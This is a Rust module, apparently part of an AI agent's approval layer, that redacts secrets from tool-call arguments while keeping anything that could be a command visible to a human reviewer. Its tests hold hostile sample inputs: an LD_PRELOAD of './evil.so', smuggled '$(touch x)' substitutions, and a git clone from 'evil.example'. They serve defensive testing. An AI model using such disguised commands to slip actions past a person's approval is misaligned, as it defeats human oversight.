//! What is shown to a person who is asked. Redaction goes by how a text looks, so a caller could dress a command up as
//! a secret: in a question only pieces that cannot hold a command are taken out. Every other piece is shown as it is.

use crate::redaction::Redaction;
use haft_core::{Arguments, Footprint, Resource, json};
use serde_json::Value;
use std::collections::BTreeSet;

/// How a mark in the place of a secret begins.
const MARK: &str = "[redacted:";

/// Takes secrets out of what a question shows.
pub(super) struct Shown<'a> {
    redaction: &'a Redaction,
    /// The signs in what was taken out.
    signs: BTreeSet<char>,
    has_hidden: bool,
}

impl<'a> Shown<'a> {
    pub(super) fn new(redaction: &'a Redaction) -> Self {
        Shown { redaction, signs: BTreeSet::new(), has_hidden: false }
    }

    /// Arguments as they are shown. Names and structure stay.
    pub(super) fn arguments(&mut self, arguments: &Arguments) -> Arguments {
        match json::parse(arguments.as_str()) {
            Ok(before) => {
                let mut after = before.clone();
                self.value(&mut after, false);
                if after == before { arguments.clone() } else { Arguments::from_text(after.to_string()) }
            }
            Err(_) => Arguments::from_text(self.text(arguments.as_str())),
        }
    }

    /// The signs that were taken out of arguments with the secrets in them; `None` where nothing was.
    pub(super) fn hidden(self) -> Option<String> {
        self.has_hidden.then(|| self.signs.into_iter().collect())
    }

    pub(super) fn text(&mut self, text: &str) -> String {
        self.agreed(text, &self.redaction.plain(text))
    }

    pub(super) fn footprint(&mut self, footprint: &Footprint) -> Footprint {
        let Footprint { reads, writes } = footprint;
        let mut shown = |resources: &[Resource]| {
            let shown = resources.iter().map(|resource| match resource {
                Resource::Anything => Resource::Anything,
                Resource::Path(path) => Resource::Path(self.text(path)),
                Resource::Host(host) => Resource::Host(self.text(host)),
                Resource::Named(name) => Resource::Named(self.text(name)),
            });
            shown.collect()
        };
        Footprint { reads: shown(reads), writes: shown(writes) }
    }

    fn value(&mut self, value: &mut Value, is_named: bool) {
        match value {
            Value::String(text) if is_named => *text = self.agreed(text, "[redacted:named]"),
            Value::String(text) => *text = self.text(text),
            Value::Number(number) => {
                let text = number.to_string();
                let shown = match is_named {
                    true => self.agreed(&text, "[redacted:named]"),
                    false => self.text(&text),
                };
                if shown != text {
                    *value = Value::String(shown);
                }
            }
            Value::Array(items) => items.iter_mut().for_each(|item| self.value(item, is_named)),
            Value::Object(members) => {
                for (name, member) in members {
                    let is_named = is_named || self.redaction.hides(name);
                    match (&mut *member, is_named) {
                        (Value::String(text), false) => {
                            let redacted = self.redaction.plain(text).into_owned();
                            let redacted = self.redaction.member(name, &redacted).unwrap_or(redacted);
                            *text = self.agreed(text, &redacted);
                        }
                        (_, _) => self.value(member, is_named),
                    }
                }
            }
            Value::Null | Value::Bool(_) => {}
        }
    }

    /// A text with only those of its marks that stand for what a token may consist of.
    fn agreed(&mut self, sent: &str, redacted: &str) -> String {
        if sent == redacted {
            return sent.to_owned();
        }
        // Whatever cannot be matched piece by piece is shown as it is.
        let Some(pieces) = pieces(sent, redacted) else { return sent.to_owned() };
        let mut out = String::with_capacity(sent.len());
        for piece in pieces {
            match piece {
                Piece::Kept(text) => out.push_str(text),
                Piece::Gone { was, mark } if !may_be_hidden(was, mark) => out.push_str(was),
                Piece::Gone { was, mark } => {
                    self.has_hidden = true;
                    self.signs.extend(was.chars().filter(|sign| !sign.is_alphanumeric()));
                    out.push_str(mark);
                }
            }
        }
        out
    }
}

/// Whether a person can decide without seeing this. Text that is merely random is shown: a caller is free to name a
/// program so. The same goes for what has the form of a path, wherever it stands in the piece: it may choose the
/// program.
fn may_be_hidden(was: &str, mark: &str) -> bool {
    let is_path = |part: &str| ["/", "./", "../", "~"].iter().any(|start| part.starts_with(start));
    let has_path = was.split(['=', ':', ',', '@']).any(is_path);
    !was.is_empty() && was.bytes().all(is_token) && !has_path && mark != RANDOM
}

/// The mark of what is hidden only because it looks random.
const RANDOM: &str = "[redacted:high-entropy]";

/// What a token may consist of. None of it means anything to a shell where it stands within a word.
fn is_token(byte: u8) -> bool {
    byte.is_ascii_alphanumeric()
        || matches!(byte, b'_' | b'-' | b'.' | b'+' | b'/' | b'=' | b'~' | b'%' | b':' | b'@' | b',' | b'^')
}

enum Piece<'a> {
    Kept(&'a str),
    Gone { was: &'a str, mark: &'a str },
}

/// What was kept of a text, and what stood where the marks are now. Put together it is the text, however the marks came
/// to be: one that the caller wrote stands for itself. `None` where the one cannot have become the other.
fn pieces<'a>(sent: &'a str, redacted: &'a str) -> Option<Vec<Piece<'a>>> {
    let (mut pieces, mut left) = (Vec::new(), sent);
    let (kept, mut rest) = before_mark(redacted);
    left = left.strip_prefix(kept)?;
    pieces.push(Piece::Kept(kept));
    while !rest.is_empty() {
        let (mark, after) = rest.split_at(mark_length(rest)?);
        let (kept, next) = before_mark(after);
        // The last one ends the text; any other stands where it is found first.
        let at = match next.is_empty() {
            true => left.len() - left.strip_suffix(kept).map(|_| kept.len())?,
            false => left.find(kept)?,
        };
        pieces.push(Piece::Gone { was: &left[..at], mark });
        pieces.push(Piece::Kept(kept));
        (left, rest) = (&left[at + kept.len()..], next);
    }
    left.is_empty().then_some(pieces)
}

/// A text up to its first mark, and from there on.
fn before_mark(text: &str) -> (&str, &str) {
    let at = text.match_indices(MARK).map(|(at, _)| at).find(|at| mark_length(&text[*at..]).is_some());
    text.split_at(at.unwrap_or(text.len()))
}

/// How long the mark is that a text begins with.
fn mark_length(text: &str) -> Option<usize> {
    let name = text.strip_prefix(MARK)?;
    let end = name.find(']')?;
    let is_name = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_' | b'.' | b'(' | b')');
    name[..end].bytes().all(is_name).then_some(MARK.len() + end + 1)
}

#[cfg(test)]
mod tests {
    use super::*;
    use haft_guard::{KnownSecrets, SecretPatterns, Secrets};
    use proptest::prelude::*;
    use std::sync::Arc;

    fn redaction() -> Redaction {
        let patterns = SecretPatterns::new(["lint: touch[ -~]*", "acme: acme_[a-z0-9]{8}"]).unwrap();
        let known = KnownSecrets::new([("CHECK", "make check; ls")]);
        Redaction(Some(Arc::new(Secrets::full(known).with_patterns(patterns))))
    }

    fn view(sent: &str) -> (String, Option<String>) {
        let redaction = redaction();
        let mut shown = Shown::new(&redaction);
        let arguments = shown.arguments(&Arguments::from_text(sent));
        (arguments.as_str().to_owned(), shown.hidden())
    }

    #[test]
    fn nothing_that_may_be_a_command_is_taken_out() {
        let same = [
            r##"{"command":"make check # -----BEGIN RSA PRIVATE KEY-----","env":{"LD_PRELOAD":"./evil.so"},"stdin":"-----END RSA PRIVATE KEY-----"}"##,
            r##"{"command":": -----BEGIN RSA PRIVATE KEY-----\ntouch pwn2\n: -----END RSA PRIVATE KEY-----"}"##,
            r##"{"command":"-----BEGIN RSA PRIVATE KEY-----\nreboot\n-----END RSA PRIVATE KEY-----"}"##,
            r##"{"command":"make check; touch pwn"}"##,
            r##"{"command":"P='$(touch x)' make"}"##,
            r##"{"command":"[redacted: password=\"$(touch x)\""}"##,
            r##"{"command":"make check; ls"}"##,
            r##"{"password":{"command":"touch x"},"token":["a b",null,true]}"##,
            // Names that look random are names all the same.
            r##"{"command":"PATH=k3J9xQ7vZ2mL8pR4tY6wB1nC5dF0gH3s/bin:/usr/bin git status"}"##,
            r##"{"command":"k3J9xQ7vZ2mL8pR4tY6wB1nC5dF0gH3s/bin/git status"}"##,
            r##"{"command":"bash k3J9xQ7vZ2mL8pR4tY6wB1nC5dF0gH3s"}"##,
            r##"{"command":"git -c core.pager=k3J9xQ7vZ2mL8pR4tY6wB1nC5dF0gH3s/x log"}"##,
            r##"{"command":"git clone https://evil.example/k3J9xQ7vZ2mL8pR4tY6wB1nC5dF0gH3s/x.git"}"##,
            r##"{"path":"k3J9xQ7vZ2mL8pR4tY6wB1nC5dF0gH3s"}"##,
            r##"{"password":"./evil.sh"}"##,
            r##"{"token":"a:/tmp/evil"}"##,
        ];
        for sent in same {
            assert_eq!(view(sent), (sent.to_owned(), None));
        }
    }

    #[test]
    fn what_redaction_hides_is_told_by_its_signs() {
        let cases = [
            (r#"{"command":"ls"}"#, r#"{"command":"ls"}"#, None),
            (r#"{"password":"abc123"}"#, r#"{"password":"[redacted:named]"}"#, Some("")),
            (
                r#"{"password":["abc","a-1"],"x":1}"#,
                r#"{"password":["[redacted:named]","[redacted:named]"],"x":1}"#,
                Some("-"),
            ),
            (r#"{"c":"use acme_a1b2c3d4; ls"}"#, r#"{"c":"use [redacted:acme]; ls"}"#, Some("_")),
            // A mark that the caller wrote stands for itself.
            (
                r#"{"a":"[redacted:x] acme_a1b2c3d4 b"}"#,
                r#"{"a":"[redacted:x] [redacted:acme] b"}"#,
                Some("_"),
            ),
        ];
        for (sent, shown, signs) in cases {
            assert_eq!(view(sent), (shown.to_owned(), signs.map(str::to_owned)), "{sent}");
        }
    }

    proptest! {
        /// Calls that differ in something with a blank, a line end or a sign of a shell never look the same, whatever
        /// is put around it.
        #[test]
        fn calls_that_differ_in_what_may_be_a_command_look_different(
            before in FRAME, after in FRAME, name in "[a-c]|password|token|api_key|command",
            one in "[a-z0-9/+]{0,40}[ \n;$&|<>(`'\"*?!#\\\\][a-z0-9 ]{0,8}", other in "[a-z0-9/+]{0,40}[ \n;$&|<>(`'\"*?!#\\\\][a-z0-9 ]{0,8}",
            split in any::<bool>(),
        ) {
            prop_assume!(one != other);
            let call = |middle: &str| {
                let value = match split {
                    true => serde_json::json!({"x": before, (name.clone()): middle, "z": after}),
                    false => serde_json::json!({(name.clone()): format!("{before}{middle}{after}")}),
                };
                value.to_string()
            };
            let (one, other) = (call(&one), call(&other));
            prop_assume!(one != other);
            prop_assert_ne!(view(&one).0, view(&other).0, "{} {}", one, other);
        }
    }

    /// Beginnings and ends of what looks like a secret.
    const FRAME: &str = "(-----BEGIN RSA PRIVATE KEY-----|-----END RSA PRIVATE KEY-----|touch |password=|password=\"|\"|'|Authorization: Bearer |ghp_|acme_|\n| |curl -u a:|https://u:|@h/|\\[redacted:|\\]|make check;){0,4}";
}
